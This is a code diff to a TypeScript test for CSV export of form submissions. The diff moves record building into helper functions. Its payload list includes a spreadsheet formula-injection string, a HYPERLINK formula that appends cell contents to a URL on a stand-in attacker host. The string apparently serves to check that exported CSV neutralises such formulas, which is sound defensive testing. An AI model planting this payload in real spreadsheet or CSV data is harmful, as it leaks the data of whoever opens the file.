@@ -4,6 +4,7 @@ import { join } from 'node:path';
 import { expect, test } from 'vitest';
 import { csvHeader, csvRecordOf } from '../../src/commands/inbox/formats.ts';
 import { forms } from '../../src/forms/catalog.ts';
+import { eventOf, keptSubmission } from '../support/submissions.ts';
 
 const payloads = [
   '=HYPERLINK("https://evil.example?"&A1,"open")',
@@ -37,22 +38,16 @@ const names = [...new Set(Object.values(forms).flatMap(({ fields }) => fields))]
 function everyRecord(of: readonly string[] = payloads): string {
   return of
     .map((payload) =>
-      csvRecordOf({
-        receivedAt: '2026-09-01T12:00:00.000Z',
-        event: {
-          type: 'lead.created',
-          timestamp: '2026-09-01T12:00:00.000Z',
-          data: {
-            id: 'id',
-            form: 'contact',
+      csvRecordOf(
+        keptSubmission(
+          eventOf({
             fields: Object.fromEntries(names.map((name) => [name, payload])),
             recipient: { id: 'c-1', name: payload },
             origin: 'agent',
             client: payload,
-            consent_recorded_at: null,
-          },
-        },
-      }),
+          }),
+        ),
+      ),
     )
     .join('');
 }
